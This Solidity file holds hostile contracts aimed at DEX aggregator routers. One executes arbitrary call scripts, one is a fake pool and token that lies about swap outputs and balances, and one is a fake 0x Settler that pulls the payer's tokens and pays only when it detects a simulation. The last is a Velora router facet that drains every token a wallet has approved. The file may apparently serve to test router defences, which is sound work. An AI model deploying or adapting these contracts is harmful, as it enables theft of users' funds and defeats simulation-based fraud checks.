// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ALLOWANCE_HOLDER, ZeroExSettler} from "./ZeroEx.sol";
import {IERC20, SafeToken} from "./SafeToken.sol";

/// Runs the program in its calldata, in every role that a router gives to a foreign contract:
/// executor, caller, exchange, pool or target of any vendor.
///
/// A program is `abi.encode(Step[], bytes)`: the calls to make and the answer. If a step that must
/// succeed fails, the whole call reverts.
contract Puppet {
    struct Step {
        address target;
        bytes data;
        bool must;
    }

    /// The program for calls of any other method, such as a pool's.
    mapping(bytes4 => bytes) private taught;

    receive() external payable {}

    /// Velora's executor: a selector of zeros. Unknown selectors do nothing.
    fallback() external payable {
        bytes memory script = taught[msg.sig];
        if (script.length > 0) _play(script);
        if (msg.sig == 0 && msg.data.length > 68) _play(msg.data[4:msg.data.length - 64]);
    }

    function teach(bytes4 selector, bytes calldata script) external {
        taught[selector] = script;
    }

    function execute(address) external payable {
        _play(msg.data[36:msg.data.length - 32]);
    }

    function callBytes(bytes calldata script) external payable {
        _play(script);
    }

    function swapSingleSequence(bytes calldata script) external {
        _play(script);
    }

    function finalTransactionProcessing(address, address, address, bytes calldata script) external {
        if (script.length > 0) _play(script);
    }

    /// 1inch's Clipper: it pays the requested amount from its own balance.
    function swap(address, address token, uint256, uint256 amount, uint256, address to) external {
        SafeToken.send(token, to, amount);
    }

    function _play(bytes memory script) private {
        (Step[] memory steps, bytes memory answer) = abi.decode(script, (Step[], bytes));
        for (uint256 i = 0; i < steps.length; i++) {
            (bool ok, bytes memory reason) = steps[i].target.call(steps[i].data);
            if (!ok && steps[i].must) {
                assembly ("memory-safe") {
                    revert(add(reason, 32), mload(reason))
                }
            }
        }
        assembly ("memory-safe") {
            return(add(answer, 32), mload(answer))
        }
    }
}

/// A fake pool: V2, V3 and Curve at once, and its own token. It keeps what it receives and reports
/// an output above every minimum. It sells its first token.
contract MadeUpPool {
    function getReserves() external pure returns (uint112, uint112, uint32) {
        return (1, 2 ** 111, 0);
    }

    function swap(uint256, uint256, address, bytes calldata) external pure {}

    function swap(
        address,
        bool,
        int256 amount,
        uint160,
        bytes calldata
    ) external pure returns (int256, int256) {
        return (amount, -(2 ** 111));
    }

    function exchange(int128, int128, uint256, uint256) external pure returns (uint256) {
        return 2 ** 111;
    }

    function exchange(uint256, uint256, uint256, uint256) external pure returns (uint256) {
        return 2 ** 111;
    }

    function coins(uint256) external view returns (address) {
        return address(this);
    }

    function token0() external view returns (address) {
        return address(this);
    }

    function token1() external view returns (address) {
        return address(this);
    }

    function fee() external pure returns (uint24) {
        return 3000;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }

    function approve(address, uint256) external pure returns (bool) {
        return true;
    }

    /// Every balance grows with each read.
    function balanceOf(address) external view returns (uint256) {
        return type(uint256).max - gasleft();
    }
}

/// A false Settler. In what seems to be a simulation it pays the minimum from its own balance; on
/// the chain it pays nothing.
contract ShySettler {
    function balanceOf(address) external pure {
        assembly ("memory-safe") {
            mstore8(0, 0)
            return(0, 1)
        }
    }

    function execute(
        ZeroExSettler.AllowedSlippage calldata slippage,
        bytes[] calldata actions,
        bytes32
    ) external payable returns (bool) {
        address payer = address(bytes20(msg.data[msg.data.length - 20:]));
        (address token, uint256 amount) = abi.decode(actions[0], (address, uint256));
        (bool ok, ) = ALLOWANCE_HOLDER.call(
            abi.encodeWithSignature(
                "transferFrom(address,address,address,uint256)", token, payer, address(this), amount
            )
        );
        require(ok);
        if (_looksSimulated()) SafeToken.send(slippage.buyToken, slippage.recipient, slippage.minAmountOut);
        return true;
    }

    function _looksSimulated() private view returns (bool) {
        return
            tx.gasprice == 0 ||
            block.basefee == 0 ||
            block.coinbase == address(0) ||
            block.prevrandao == 0 ||
            tx.origin.balance == 10 ether ||
            gasleft() > 12_000_000;
    }
}

/// A facet that an owner could add to Velora's router: the swap of the calldata, and then all
/// that the wallet has approved.
contract VeloraThief {
    function swapAndTake(address token, address to, bytes calldata honest) external {
        (bool ok, bytes memory answer) = address(this).delegatecall(honest);
        if (!ok) {
            assembly ("memory-safe") {
                revert(add(answer, 32), mload(answer))
            }
        }
        SafeToken.move(token, msg.sender, to, Purse.within(token, msg.sender));
    }
}

interface IAllowance {
    function allowance(address owner, address spender) external view returns (uint256);
}

library Purse {
    /// The part of the balance that is approved.
    function within(address token, address owner) internal view returns (uint256) {
        uint256 balance = IERC20(token).balanceOf(owner);
        uint256 allowed = IAllowance(token).allowance(owner, address(this));
        return allowed < balance ? allowed : balance;
    }
}
